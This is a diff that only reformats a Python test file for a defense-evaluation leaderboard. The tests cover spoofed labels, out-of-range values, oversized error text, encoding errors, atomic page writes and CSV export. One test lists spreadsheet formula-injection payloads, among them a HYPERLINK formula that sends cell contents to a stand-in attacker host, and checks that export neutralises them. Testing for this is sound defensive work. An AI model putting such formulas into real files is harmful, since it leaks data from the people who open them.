@@ -1,4 +1,6 @@
-"""Odd, broken and forged records: each is one row that says what is wrong with it, never good news and never everybody's board."""
+"""Odd, broken and forged records: each is one row that says what is wrong with it, never good news
+and never everybody's board.
+"""
 
 from __future__ import annotations
 
@@ -26,7 +28,8 @@ from leaderboard.sound import display, sound
 
 def record(defense: str = "d", rate: float = 0.1, seed: int = 0, **changes: object) -> Record:
     plain = Record(
-        testbed=PluginSpec(name="t"), attack=PluginSpec(name="a"), defense=PluginSpec(name=defense), seed=seed, status="ok",
+        testbed=PluginSpec(name="t"), attack=PluginSpec(name="a"), defense=PluginSpec(name=defense),
+        seed=seed, status="ok",
         kind="control" if defense == "none" else "sampler", protocol="p",
         metrics={"asr[noise]": Metric(value=rate, n=64, higher_is_better=False)},
     )  # fmt: skip
@@ -35,7 +38,8 @@ def record(defense: str = "d", rate: float = 0.1, seed: int = 0, **changes: obje
 
 def run(*records: Record) -> Run:
     return Run(
-        suite="s", description="", started="2026-01-01T00:00:00+00:00", finished="2026-01-01T01:00:00+00:00", counts={},
+        suite="s", description="", started="2026-01-01T00:00:00+00:00",
+        finished="2026-01-01T01:00:00+00:00", counts={},
         records=[(Path("/nowhere"), one) for one in records],
     )  # fmt: skip
 
@@ -73,9 +77,15 @@ def test_a_plugin_is_shown_under_its_own_name(name: str, given_label: str, shown
 
 @given(st.text(max_size=40), st.sampled_from(["clip_xt", "none", "finetune"]))
 def test_no_label_makes_a_plugin_look_like_another(text: str, other: str) -> None:
-    """For any text: it begins with the plugin's own name, and holds nothing that a reader cannot see."""
+    """For any text: it begins with the plugin's own name, and holds nothing that a reader cannot
+    see.
+    """
     shown = display(PluginSpec(name="mine", label=text))
-    assert shown.lower().replace("-", "_").startswith("mine") and not shown.startswith(other) and len(shown) <= 160
+    assert (
+        shown.lower().replace("-", "_").startswith("mine")
+        and not shown.startswith(other)
+        and len(shown) <= 160
+    )
     assert shown.isprintable()
 
 
@@ -97,7 +107,11 @@ def test_a_rate_outside_its_range_is_no_number_and_never_the_best(value: float) 
     (ranking,) = rankings(board)
     assert [label(place.cell.defense) for place in ranking.holders()] == ["good"]
     place = next(place for place in ranking.places if label(place.cell.defense) == "odd")
-    assert place.rank == "" and place.worst.mean == 1 and any("outside its range" in flag for flag in place.flags)
+    assert (
+        place.rank == ""
+        and place.worst.mean == 1
+        and any("outside its range" in flag for flag in place.flags)
+    )
     table = next(table for table in matrices(board) if table.words.name == "asr[noise]")
     shown = {label(shown.cell.defense): shown for shown in table.rows[0][1] if shown.cell}
     assert shown["odd"].text == "–" and shown["odd"].step is None
@@ -109,7 +123,10 @@ def test_a_direction_turned_round_does_not_turn_the_colours() -> None:
     turned = {"asr[noise]": Metric(value=0.95, n=64, higher_is_better=True)}
     (board,) = boards([run(record("none", metrics=turned), record("d", metrics=turned))])
     table = next(table for table in matrices(board) if table.words.name == "asr[noise]")
-    assert table.direction == "Lower is better for the defender." and (table.rows[0][1][0].step or 0) <= 1
+    assert (
+        table.direction == "Lower is better for the defender."
+        and (table.rows[0][1][0].step or 0) <= 1
+    )
     assert any("direction turned round" in flag for flag in sound(record(metrics=turned)).flags)
 
 
@@ -125,11 +142,20 @@ def test_an_unknown_status_is_a_failure() -> None:
 
 def test_a_reason_is_cut_and_stands_in_a_page_a_few_times_only(tmp_path: Path) -> None:
     """Thirty megabytes in each of forty tables made a page of two gigabytes."""
-    long = record("d", status="failed", metrics={}, reason="boom " * 200_000, trace="line\n" * 200_000)
+    long = record(
+        "d", status="failed", metrics={}, reason="boom " * 200_000, trace="line\n" * 200_000
+    )
     many = {f"metric_{place}": Metric(value=0.5) for place in range(30)}
     page = render([run(record("none", metrics=many), long)])
     assert len(page) < 200_000 and page.count("boom boom boom") <= 300
-    short = render([run(record("none", metrics=many), record("d", status="failed", metrics={}, reason="out of luck"))])
+    short = render(
+        [
+            run(
+                record("none", metrics=many),
+                record("d", status="failed", metrics={}, reason="out of luck"),
+            )
+        ]
+    )
     assert short.count("out of luck") == 2, "in the cell's panel and in the list of failures"
 
 
@@ -144,11 +170,15 @@ def test_thousands_of_unknown_metrics_and_long_parameters_do_not_fill_the_page()
     assert len(frame) == 3000 and frame["defense_params"].str.len().max() < 100
 
 
-def test_letters_without_utf8_do_not_take_the_board(tmp_path: Path, make_store: Callable[..., Path]) -> None:
+def test_letters_without_utf8_do_not_take_the_board(
+    tmp_path: Path, make_store: Callable[..., Path]
+) -> None:
     """An error that names a file in another encoding is an honest error."""
     odd = "cannot read caf\udce9.txt"
     store = make_store(
-        tmp_path / "store", lambda one: dataclasses.replace(one, reason=odd) if one.status == "failed" else one, suite="digits"
+        tmp_path / "store",
+        lambda one: dataclasses.replace(one, reason=odd) if one.status == "failed" else one,
+        suite="digits",
     )
     path = build(store, tmp_path / "board.html")
     assert "caf\\udce9.txt" in path.read_text(encoding="utf-8")
@@ -157,29 +187,52 @@ def test_letters_without_utf8_do_not_take_the_board(tmp_path: Path, make_store: 
     assert "caf\\udce9.txt" in render([run(record("d", status="failed", metrics={}, reason=odd))])
 
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+)
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_no_text_in_the_csv_is_a_formula(formula: str) -> None:
-    """A spreadsheet would run it on the machine of whoever opens the file; numbers stay numbers, the minus sign too."""
+    """A spreadsheet would run it on the machine of whoever opens the file; numbers stay numbers,
+    the minus sign too.
+    """
     spec = PluginSpec(name=formula, label=formula, params={formula: formula})
     one = record(
-        "d", metrics={formula: Metric(value=-1.5, unit=formula)}, protocol=formula, reason=formula, flags=(formula,),
+        "d", metrics={formula: Metric(value=-1.5, unit=formula)}, protocol=formula, reason=formula,
+        flags=(formula,),
         kind=formula, status=formula,
     )  # fmt: skip
     one = dataclasses.replace(one, attack=spec, defense=spec, testbed=spec, probe=spec)
-    text = export.tidy([dataclasses.replace(run(one), suite=formula)]).to_csv(index=False, lineterminator="\n")
+    text = export.tidy([dataclasses.replace(run(one), suite=formula)]).to_csv(
+        index=False, lineterminator="\n"
+    )
     (row,) = csv.DictReader(io.StringIO(text, newline=""))
     numeric = {"value", "ci_low", "ci_high", "n", "seed"}
     texts = {name: text for name, text in row.items() if name not in numeric}
-    assert not [name for name, text in texts.items() if text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]
+    assert not [
+        name
+        for name, text in texts.items()
+        if text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
+    ]
     assert row["value"] == "-1.5"
     wanted = f"'{formula}" if formula[0] != "\r" else "\\r=1"
-    assert all(texts[name] == wanted for name in ("suite", "attack", "defense", "protocol", "metric", "reason", "unit"))
+    assert all(
+        texts[name] == wanted
+        for name in ("suite", "attack", "defense", "protocol", "metric", "reason", "unit")
+    )
 
 
-def test_a_full_disk_leaves_the_old_board_whole(tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_full_disk_leaves_the_old_board_whole(
+    tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Half a page in place of a good one is worse than an error."""
     path = build(store, tmp_path / "board.html")
     before = {file.name: file.read_bytes() for file in tmp_path.iterdir()}
@@ -197,7 +250,9 @@ def test_a_full_disk_leaves_the_old_board_whole(tmp_path: Path, store: Path, mon
     assert {file.name: file.read_bytes() for file in tmp_path.iterdir()} == before
 
 
-def test_a_reader_never_sees_half_a_board(tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_reader_never_sees_half_a_board(
+    tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Each file changes by one rename, after all of them are written."""
     path = build(store, tmp_path / "board.html")
     renamed = []
@@ -214,7 +269,9 @@ def test_a_reader_never_sees_half_a_board(tmp_path: Path, store: Path, monkeypat
 
 
 def test_one_bad_column_does_not_make_all_others_look_alike() -> None:
-    """FID's colours run from 0 to twice no defense's, so that a FID of 60 leaves 1.1 and 1.9 apart."""
+    """FID's colours run from 0 to twice no defense's, so that a FID of 60 leaves 1.1 and 1.9
+    apart.
+    """
 
     def fid(name: str, value: float) -> Record:
         return record(name, metrics={"fid[x]": Metric(value=value, higher_is_better=False)})
@@ -224,6 +281,13 @@ def test_one_bad_column_does_not_make_all_others_look_alike() -> None:
     for cells in (few, (*few, fid("awful", 60.0))):
         (board,) = boards([run(*cells)])
         (table,) = matrices(board)
-        steps.append({label(shown.cell.defense): shown.step for shown in table.rows[0][1] if shown.cell})
+        steps.append(
+            {label(shown.cell.defense): shown.step for shown in table.rows[0][1] if shown.cell}
+        )
     assert {name: steps[1][name] for name in steps[0]} == steps[0]
-    assert steps[1]["awful"] == 0 and steps[1]["none"] == 5 and steps[1]["far"] is not None and steps[1]["far"] <= 1
+    assert (
+        steps[1]["awful"] == 0
+        and steps[1]["none"] == 5
+        and steps[1]["far"] is not None
+        and steps[1]["far"] <= 1
+    )
